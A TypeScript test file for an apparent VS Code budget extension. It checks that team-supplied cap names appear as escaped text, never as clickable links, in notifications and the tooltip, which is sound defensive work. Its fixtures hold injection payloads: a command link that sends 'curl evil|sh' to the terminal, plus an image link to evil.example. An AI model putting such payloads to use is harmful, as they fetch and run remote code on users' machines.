/** Notifications and the status bar's tooltip show strings others wrote (a team's cap names and globs) as text, never as links. */
import assert from "node:assert/strict";
import { callNotice } from "../../../client/callNotice";
import { configErrorMessage } from "../../../client/configErrorModel";
import { crossingNotice } from "../../../client/notificationText";
import { meterView } from "../../../client/statusModel";
import type { CallRecord, CapStatusDto, StatusResponse } from "../../../server/protocol";

// VS Code's own pattern for links in a notification's message (src/vs/base/common/linkedText.ts):
// a match is rendered as a link, and a command link runs its command with its arguments on click.
const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_NOTIFICATION_LINK)].map((m) => m[2]);

// A team.json model glob that still matches every model (a brace alternative) and carries a command link.
const HOSTILE = "{*,[details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)}";
const capId = `team-day-${HOSTILE}`;

describe("text others wrote, in notifications and the tooltip", () => {
  it("the pattern used here finds the link as it is written", () => {
    assert.equal(links(`cap ${capId} refused`).length, 1);
  });

  it("a refusal naming such a cap says its name, and holds no link", () => {
    const record = {
      type: "settle", id: "c1", at: "2026-11-22T10:00:00.000Z", startedAt: "2026-11-22T10:00:00.000Z", user: "u", tool: "aws-sdk-js", operation: "Converse",
      modelId: "m", baseModelId: "m", usage: { inputTokens: 0, outputTokens: 0, cacheReadInputTokens: 0, cacheWrite5mInputTokens: 0, cacheWrite1hInputTokens: 0 },
      usageEstimated: false, costPicos: "0", worstCasePicos: "1", outcome: "refused", status: 400, latencyMs: 1, tags: {},
      refusedBy: capId, message: `Bedrock Budget refused this call: team cap "${capId}" would be exceeded`,
    } satisfies CallRecord;
    const notice = callNotice(record)!;
    assert.deepEqual(links(notice.message), []);
    assert.match(notice.message, /\[details\] \(command:workbench/, "the name stays readable");
    const warned = callNotice({ ...record, outcome: "ok", message: undefined, actions: [{ capId, action: "warn", detail: "past its limit" }] })!;
    assert.deepEqual(links(warned.message), []);
  });

  it("a threshold alert and an invalid setting hold no link either", () => {
    const crossing = { key: `${capId}@x#80`, capId, threshold: 80, spentUsd: 8, limitUsd: 10, window: "day", resetsAt: "2026-11-23T00:00:00.000Z" } as const;
    assert.deepEqual(links(crossingNotice(crossing)), []);
    assert.match(crossingNotice(crossing), /80%/);
    assert.deepEqual(links(configErrorMessage([`caps.${HOSTILE}: not a cap`], true, false)), []);
  });

  it("the status bar's tooltip shows the name as text: no link, image or markup of its own, only the tooltip's commands", () => {
    const cap: CapStatusDto = {
      id: capId, scope: "team", window: "day", model: `![x](https://evil.example/p.png)<img src=x>`, limitUsd: 10, spentUsd: 1, reservedUsd: 0, limitExact: "10", spentExact: "1", reservedExact: "0",
      windowStart: "2026-11-22T00:00:00.000Z", resetsAt: "2026-11-23T00:00:00.000Z",
    };
    const status: StatusResponse = { user: "u", endpoint: "http://127.0.0.1:8777", timeZone: "UTC", caps: [cap], today: { calls: 0, costUsd: 0, costExact: "0" }, todayByModel: {}, inFlight: 0 };
    const tip = meterView(status, new Date("2026-11-22T10:00:00.000Z")).tooltip;
    const markdownLinks = [...tip.matchAll(/(?<!\\)\[[^\]]*(?<!\\)\]\(([^)]*)\)/g)].map((m) => m[1]);
    assert.deepEqual(markdownLinks, ["command:bedrockBudget.showDashboard", "command:bedrockBudget.copyEndpoint", "command:bedrockBudget.openSettings", "command:bedrockBudget.showLog"]);
    assert.doesNotMatch(tip, /(?<!\\)<img/);
    assert.match(tip, /team\\-day\\-\\\{\\\*\\,\\\[details\\\]\\\(command\\:/, "escaped, so it renders as written");
  });
});
